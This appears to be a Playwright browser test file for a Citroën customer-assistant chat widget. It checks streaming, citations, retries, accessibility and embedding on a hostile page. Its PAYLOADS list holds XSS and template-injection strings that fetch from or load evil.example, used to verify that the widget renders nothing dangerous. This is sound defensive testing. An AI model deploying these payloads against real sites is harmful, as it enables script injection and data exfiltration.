"""The customer page in a real browser."""

from __future__ import annotations

import http.server
import json
import re
import shutil
import socket
import threading
import time
from collections.abc import Iterator

import pytest
import uvicorn
from fastapi import FastAPI

from tests.ui.conftest import OTHER_PORT

CHROMIUM = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine (Debian: apt-get install chromium)"),
]
FLAGS = [
    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
    "--disable-component-update", "--disable-sync",
]  # fmt: skip


@pytest.fixture(scope="module")
def address(app: FastAPI) -> Iterator[str]:
    with socket.socket() as free:
        free.bind(("127.0.0.1", 0))
        port = free.getsockname()[1]
    server = uvicorn.Server(uvicorn.Config(app, host="127.0.0.1", port=port, log_level="error"))
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    while not server.started:
        time.sleep(0.05)
    yield f"http://127.0.0.1:{port}"
    server.should_exit = True
    thread.join(10)


class Visit:
    """One open page, with what it asked of other sites and what its policy stopped."""

    def __init__(self, page: object, address: str) -> None:
        self.page = page
        self.outside: list[str] = []
        self.violations: list[str] = []
        page.on("request", lambda request: self._requested(request.url, address))
        page.on("console", lambda message: self._logged(message.text))
        page.goto(address)
        page.locator("citroen-assistant textarea").first.wait_for()

    def _requested(self, url: str, address: str) -> None:
        if not url.startswith((address, "data:", "blob:")):
            self.outside.append(url)

    def _logged(self, text: str) -> None:
        if "Content Security Policy" in text:
            self.violations.append(text)

    def ask(self, question: str) -> None:
        box = self.page.locator("citroen-assistant form textarea")
        box.fill(question)
        box.press("Enter")
        self.page.locator("citroen-assistant button[type=submit]").wait_for(state="visible")

    @property
    def log(self):
        return self.page.locator("citroen-assistant [role=log]")


@pytest.fixture(params=[("fr-FR", 390, "light"), ("en-GB", 1440, "dark")], ids=["french-phone-light", "english-desktop-dark"])
def settings(request: pytest.FixtureRequest) -> tuple[str, int, str]:
    return request.param


@pytest.fixture
def visit(address: str, settings: tuple[str, int, str]) -> Iterator[Visit]:
    from playwright.sync_api import sync_playwright

    locale, width, scheme = settings
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        context = browser.new_context(locale=locale, viewport={"width": width, "height": 850}, color_scheme=scheme)
        context.set_default_timeout(30_000)
        yield Visit(context.new_page(), address)
        browser.close()


def test_a_question_gets_a_streamed_answer_whose_source_opens_the_passage(visit: Visit, settings: tuple[str, int, str]) -> None:
    french = settings[0].startswith("fr")
    question = (
        "D'où viennent les butées hydrauliques progressives ?" if french else "Where do progressive hydraulic cushions come from?"
    )

    visit.page.get_by_text("intelligence artificielle" if french else "artificial intelligence").first.wait_for()
    visit.ask(question)
    visit.log.get_by_text("rallye" if french else "rallying").first.wait_for()
    visit.log.locator("summary").first.click()
    link = visit.log.locator("details a").first
    link.wait_for()
    visit.page.goto(link.get_attribute("href"))

    assert visit.page.locator("section.cited").count() == 1
    assert visit.outside == []
    assert visit.violations == []


def test_choices_are_buttons_and_a_follow_up_goes_on(visit: Visit, settings: tuple[str, int, str]) -> None:
    french = settings[0].startswith("fr")

    visit.ask("Comment activer le régulateur de vitesse ?" if french else "How do I switch on cruise control?")
    visit.log.get_by_role("button", name="C5 Aircross (2018-2025)").first.click()
    visit.log.get_by_text(re.compile("CRUISE")).first.wait_for()
    steps = visit.log.locator("ol li").count()
    visit.ask("et pour le désactiver ?" if french else "and to switch it off?")

    assert steps >= 2
    visit.log.locator("> .it").nth(2).wait_for()
    assert "C5 Aircross" in visit.log.locator("> .it").nth(2).text_content()


PAYLOADS = [
    "![x](http://evil.example/b.png)",
    "<img src=http://evil.example/b.png onerror=alert(1)>",
    "<script src=http://evil.example/x.js></script>",
    "<iframe src=http://evil.example></iframe>",
    "<svg onload=fetch('http://evil.example')>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<form action=http://evil.example><button>x</button></form>",
    "[click](javascript:fetch('http://evil.example'))",
    "<video src=http://evil.example/v.mp4 autoplay></video>",
    "<object data=http://evil.example></object>",
    "<embed src=http://evil.example>",
    "<base href=http://evil.example>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<a href=http://evil.example ping=http://evil.example>x</a>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<input type=image src=http://evil.example/i.png>",
    "<math><mi xlink:href=http://evil.example>",
    "{{constructor.constructor('fetch(`http://evil.example`)')()}}",
]


def _streaming(body: str):
    return lambda route: route.fulfill(content_type="text/event-stream", body=body)


def test_what_is_asked_or_answered_is_shown_as_text_and_fetches_nothing(visit: Visit) -> None:
    answer = {
        "decision": "answer",
        "text": "PAYLOAD [1]\n\n1. PAYLOAD\n2. x",
        "language": "en",
        "question_language": "en",
        "conversation_id": "c",
        "statements": [],
        "choices": ["PAYLOAD"],
        "suggestions": [],
        "vehicle": None,
        "rules": [],
        "citations": [
            {
                "n": 1,
                "document_id": "d",
                "chunk_id": "PAYLOAD",
                "title": "PAYLOAD",
                "section": "PAYLOAD",
                "language": "en",
                "url": None,
                "quote": "PAYLOAD",
                "as_of": 2020,
                "status": "fact",
                "sources": [{"label": "PAYLOAD", "year": 2020}],
            },
        ],
    }
    for payload in PAYLOADS:
        body = f"event: done\ndata: {json.dumps(answer).replace('PAYLOAD', json.dumps(payload)[1:-1])}\n\n"
        visit.page.unroute_all()
        visit.page.route("**/v1/chat", _streaming(body))
        visit.ask(payload)
        visit.log.locator(".you", has_text=payload[:20]).first.wait_for()
    visit.page.wait_for_timeout(800)

    assert visit.log.locator("img, iframe, script, form, object, embed, video, svg, style, base, meta").count() == 0
    assert visit.log.locator('a[href*="evil.example/"], a[href^="javascript"]').count() == 0
    assert visit.outside == []


def test_a_lost_connection_keeps_the_question_and_can_be_retried(visit: Visit, settings: tuple[str, int, str]) -> None:
    french = settings[0].startswith("fr")
    question = "À quoi sert l'amortisseur ?" if french else "What does a damper do?"
    visit.page.route("**/v1/chat", lambda route: route.abort())
    visit.ask(question)
    retry = visit.log.get_by_role("button", name="Réessayer" if french else "Try again")
    retry.wait_for()

    assert visit.page.locator("citroen-assistant form textarea").input_value() == question
    visit.page.unroute_all()
    retry.click()
    visit.log.locator("summary").first.wait_for()


def test_a_conversation_stays_over_a_reload_in_this_tab_only(visit: Visit, address: str) -> None:
    visit.ask("What does a damper do?")
    visit.log.locator("summary").first.wait_for()
    visit.page.reload()
    visit.log.locator("summary").first.wait_for()
    other = visit.page.context.new_page()
    other.goto(address)
    other.locator("citroen-assistant form textarea").wait_for()

    assert other.locator("citroen-assistant .you").count() == 0


def test_an_answer_can_be_rated_with_a_reason_and_a_person_asked_for(visit: Visit, settings: tuple[str, int, str]) -> None:
    french = settings[0].startswith("fr")
    visit.ask("Je veux parler à un conseiller" if french else "I want to talk to a person")
    visit.log.get_by_role("button", name="Parler à une personne" if french else "Talk to a person").click()
    visit.log.get_by_role("button", name="Oui, transmettre" if french else "Yes, pass it on").click()
    visit.log.get_by_text("C'est transmis" if french else "It has been passed on").wait_for()
    visit.ask("À quoi sert l'amortisseur ?" if french else "What does a damper do?")
    visit.log.get_by_role("button", name="Réponse pas utile" if french else "Not helpful").last.click()
    visit.log.get_by_role("textbox").fill("trop court")
    visit.log.get_by_role("button", name="Envoyer l'avis" if french else "Send feedback").click()

    visit.log.get_by_text("Merci" if french else "Thank you").wait_for()


def test_the_keyboard_alone_is_enough(visit: Visit) -> None:
    visit.page.locator("citroen-assistant form textarea").focus()
    visit.page.keyboard.type("What does a damper do?")
    visit.page.keyboard.press("Enter")
    visit.log.locator("summary").first.wait_for()
    for _ in range(30):
        visit.page.keyboard.press("Shift+Tab")
        if visit.page.evaluate("document.querySelector('citroen-assistant').shadowRoot.activeElement?.tagName") == "SUMMARY":
            break
    visit.page.keyboard.press("Enter")

    assert visit.log.locator("details[open]").count() == 1


def test_no_page_has_a_serious_fault_of_accessibility(visit: Visit, address: str) -> None:
    from axe_playwright_python.sync_playwright import Axe

    visit.ask("What does a damper do?")
    visit.log.locator("summary").first.click()
    found = []
    for path in ("", "passages/phc-origin.fr.rally", "sign-in"):
        if path:
            visit.page.goto(f"{address}/{path}")
        violations = Axe().run(visit.page).response["violations"]
        found += [
            (path, one["id"], one["nodes"][0]["html"][:80]) for one in violations if one["impact"] in ("serious", "critical")
        ]

    assert found == []


def test_the_page_does_not_scroll_sideways(visit: Visit) -> None:
    visit.ask("À quoi servent les butées hydrauliques progressives ?")
    overflow = visit.page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")

    assert overflow <= 0


CSS = "* { color: lime !important; font-size: 60px !important; display: inline !important; position: static !important }"


@pytest.fixture
def hostile_site(address: str) -> Iterator[str]:
    """Another site, with a strict policy and styles that would ruin anything outside a shadow DOM."""

    class Site(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            css = self.path.endswith(".css")
            page = (
                '<!doctype html><html lang="fr"><head><title>x</title><link rel="stylesheet" href="/hostile.css"></head>'
                "<body><h1>Un site</h1>"
                f'<script src="{address}/widget.js" data-market="FR" data-language="fr"></script></body></html>'
            )
            self.send_response(200)
            self.send_header("Content-Type", "text/css" if css else "text/html; charset=utf-8")
            policy = f"default-src 'self'; script-src {address}; connect-src {address}; style-src 'self'"
            self.send_header("Content-Security-Policy", policy)
            self.end_headers()
            self.wfile.write((CSS if css else page).encode())

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", OTHER_PORT), Site)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{OTHER_PORT}"
    server.shutdown()
    server.server_close()


def test_the_widget_works_on_a_hostile_page_of_another_site(hostile_site: str) -> None:
    from playwright.sync_api import sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        page = browser.new_page()
        violations: list[str] = []
        page.on("console", lambda message: violations.append(message.text) if "Content Security Policy" in message.text else None)
        page.goto(hostile_site)
        page.locator("citroen-assistant .launch").click()
        page.locator("citroen-assistant form textarea").fill("À quoi sert l'amortisseur ?")
        page.keyboard.press("Enter")
        page.locator("citroen-assistant summary").first.wait_for()
        size = page.locator("citroen-assistant .ai").evaluate("element => getComputedStyle(element).fontSize")
        browser.close()

    assert violations == []
    assert size == "14px"
